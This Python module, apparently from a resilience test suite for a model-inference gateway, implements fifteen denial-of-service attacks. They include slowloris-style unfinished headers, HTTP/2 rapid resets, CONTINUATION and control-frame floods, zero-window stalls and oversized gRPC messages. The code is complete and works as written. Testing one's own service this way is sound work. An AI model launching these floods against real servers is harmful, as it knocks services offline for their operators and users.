"""What callers without a key can do to the gateway: each attack holds what it gets until it is let go.

They are told apart by what they use up: first messages, heads, connections, answers, the budget of probes.
"""

import contextlib
import socket
from collections.abc import Callable, Generator
from contextlib import ExitStack, contextmanager

from attack import http2
from attack.http2 import ELSEWHERE, Connection

Address = tuple[str, int]
SERVICE = "/inference.GRPCInferenceService/"
WATCH = "/grpc.health.v1.Health/Watch"
CHECK = "/grpc.health.v1.Health/Check"
REFLECTION = "/grpc.reflection.v1alpha.ServerReflection/ServerReflectionInfo"
EMPTY = bytes(5)
"""A gRPC message without fields."""


@contextmanager
def held(count: int, make: Callable[[], Connection | socket.socket]) -> Generator[list[Connection | socket.socket]]:
    """So many connections, fewer where the other side lets in no more."""
    with ExitStack() as stack:
        found: list[Connection | socket.socket] = []
        for _ in range(count):
            with contextlib.suppress(OSError):
                found.append(make())
                stack.callback(found[-1].close)
        yield found


@contextmanager
def first_messages(address: Address, connections: int = 8, streams: int = 100, size: int = 1 << 26) -> Generator[None]:
    """Calls whose first message is of `size` bytes, each sent as far as it is taken."""
    with held(connections, lambda: Connection(address)) as all_of_them:
        for each in all_of_them:
            assert isinstance(each, Connection)
            names = ("ModelInfer", "ModelStreamInfer", "ModelReady")
            numbers = [each.open(http2.call(SERVICE + names[n % 3])) for n in range(streams)]
            begin = bytes(1) + size.to_bytes(4, "big")
            part = begin + b"\x0a\x06digits" + b"\x2a\xff\xff\xff\x1f" + b"x" * 16000
            for _ in range(4):
                for number in numbers:
                    if not each.send(http2.frame(http2.DATA, 0, number, part), patience=1.0):
                        break
                part = b"x" * 16000
        yield


@contextmanager
def slow_heads(address: Address, connections: int = 500, size: int = 12_000) -> Generator[None]:
    """Heads of HTTP/1 that do not end."""
    head = b"GET /v2/models/digits HTTP/1.1\r\nhost: x\r\n"
    head += b"".join(b"h%d: %s\r\n" % (n, b"x" * 1000) for n in range(size // 1000))

    def make() -> socket.socket:
        made = http2.connect(address, 5)
        made.sendall(head)
        return made

    with held(connections, make):
        yield


@contextmanager
def silence(address: Address, connections: int = 1500) -> Generator[None]:
    """Connections that say nothing."""
    with held(connections, lambda: http2.connect(address, 5)):
        yield


@contextmanager
def continuations(address: Address, connections: int = 50, frames: int = 200) -> Generator[None]:
    """Heads of HTTP/2 that do not end."""
    with held(connections, lambda: Connection(address)) as all_of_them:
        for each in all_of_them:
            assert isinstance(each, Connection)
            each.send(http2.frame(http2.HEADERS, 0, 1, http2.block(http2.call(SERVICE))))
            for n in range(frames):
                field = http2.block([(f"h{n}", "x" * 4000)])
                if not each.send(http2.frame(http2.CONTINUATION, 0, 1, field), patience=1.0):
                    break
        yield


@contextmanager
def head_flood(
    address: Address, connections: int = 40, streams: int = 100, size: int = 4000, window: int = 65535
) -> Generator[None]:
    """As many requests as a connection may have, all with large heads. `window` 0: and nobody takes the answers."""
    more = [(f"h{n}", "x" * 1000) for n in range(size // 1000)]
    head = [(":method", "GET"), (":scheme", "http"), (":path", "/v2/models/digits"), (":authority", "a"), *more]
    with held(connections, lambda: Connection(address, window=window)) as all_of_them:
        for each in all_of_them:
            assert isinstance(each, Connection)
            each.send(b"".join(http2.head(next(each.streams), head, end=True) for _ in range(streams)), patience=1.0)
        yield


@contextmanager
def unread(address: Address, connections: int = 40, requests: int = 20_000) -> Generator[None]:
    """Requests one after the other whose answers nobody reads."""
    plain = b"GET /v2 HTTP/1.1\r\nhost: x\r\n\r\n"

    def make() -> socket.socket:
        made = http2.connect(address, 1)
        with contextlib.suppress(OSError):
            made.sendall(plain * requests)
        return made

    with held(connections, make):
        yield


@contextmanager
def resets(address: Address, connections: int = 10, streams: int = 2000) -> Generator[None]:
    """Calls that are taken back as soon as they are made."""
    with held(connections, lambda: Connection(address)) as all_of_them:
        for each in all_of_them:
            assert isinstance(each, Connection)
            for _ in range(streams):
                number = next(each.streams)
                both = http2.head(number, http2.call(f"{SERVICE}ModelInfer"))
                both += http2.frame(http2.RESET, 0, number, (8).to_bytes(4, "big"))
                if not each.send(both, patience=1.0):
                    break
        yield


@contextmanager
def controls(address: Address, connections: int = 10, frames: int = 20_000) -> Generator[None]:
    """PING and SETTINGS, each of which wants an answer that nobody reads."""
    both = http2.frame(http2.PING, 0, 0, bytes(8)) + http2.frame(http2.SETTINGS, 0, 0)
    with held(connections, lambda: Connection(address)) as all_of_them:
        for each in all_of_them:
            assert isinstance(each, Connection)
            each.send(both * frames, patience=1.0)
        yield


@contextmanager
def server_streams(address: Address, connections: int = 50, streams: int = 40) -> Generator[None]:
    """Health's Watch and reflection, which stay open where they are let in."""
    with held(connections, lambda: Connection(address)) as all_of_them:
        for each in all_of_them:
            assert isinstance(each, Connection)
            for n in range(streams):
                number = each.open(http2.call((WATCH, REFLECTION)[n % 2]))
                each.send(http2.frame(http2.DATA, http2.END_STREAM if n % 2 == 0 else 0, number, EMPTY))
        yield


@contextmanager
def half_probes(address: Address, connections: int = 50, streams: int = 40) -> Generator[None]:
    """Probes whose only message does not end."""
    with held(connections, lambda: Connection(address)) as all_of_them:
        for each in all_of_them:
            assert isinstance(each, Connection)
            for n in range(streams):
                number = each.open(http2.call((CHECK, f"{SERVICE}ServerLive")[n % 2]))
                each.send(http2.frame(http2.DATA, 0, number, bytes(1)))
        yield


@contextmanager
def untaken(
    address: Address, paths: tuple[str, ...], connections: int = 200, streams: int = 100, grpc: bool = False
) -> Generator[None]:
    """Requests over HTTP/2 that need no key to be answered or refused, and of whose answers nobody takes a byte.

    They use up their address's share of HTTP/2 until they are idle for long enough, so they come from another one.
    """
    plain = [(":method", "GET"), (":scheme", "http"), (":authority", "a")]
    heads = [http2.call(path) if grpc else [*plain, (":path", path)] for path in paths]
    with held(connections, lambda: Connection(address, window=0, source=ELSEWHERE)) as all_of_them:
        for each in all_of_them:
            assert isinstance(each, Connection)
            sent: list[bytes] = []
            for n in range(streams):
                number = next(each.streams)
                sent.append(http2.head(number, heads[n % len(heads)], end=not grpc))
                sent += [http2.frame(http2.DATA, http2.END_STREAM, number, EMPTY)] if grpc else []
            each.send(b"".join(sent), patience=1.0)
        yield


REFUSED = ("/v2/models/digits", "/v2/models/nobody/infer", "/nothing", "/v2/models/a%2fb", "/v2/repository/index")
FREE = ("/v2", "/v2/health/live", "/v2/health/ready")
PROBES = (CHECK, f"{SERVICE}ServerLive", f"{SERVICE}ServerReady", f"{SERVICE}ServerMetadata")

ATTACKS: dict[str, Callable[[Address], contextlib.AbstractContextManager[None]]] = {
    "first messages": first_messages,
    "slow heads": slow_heads,
    "silence": silence,
    "continuations": continuations,
    "head flood": head_flood,
    "answers nobody takes": lambda address: head_flood(address, connections=15, size=0, window=0),
    "refusals nobody takes": lambda address: untaken(address, REFUSED),
    "free answers nobody takes": lambda address: untaken(address, FREE),
    "probes nobody takes": lambda address: untaken(address, PROBES, grpc=True),
    "calls nobody takes": lambda address: untaken(address, (f"{SERVICE}ModelInfer", "/x.Y/Z"), grpc=True),
    "answers nobody reads": unread,
    "resets": resets,
    "control frames": controls,
    "server streams": server_streams,
    "half probes": half_probes,
}
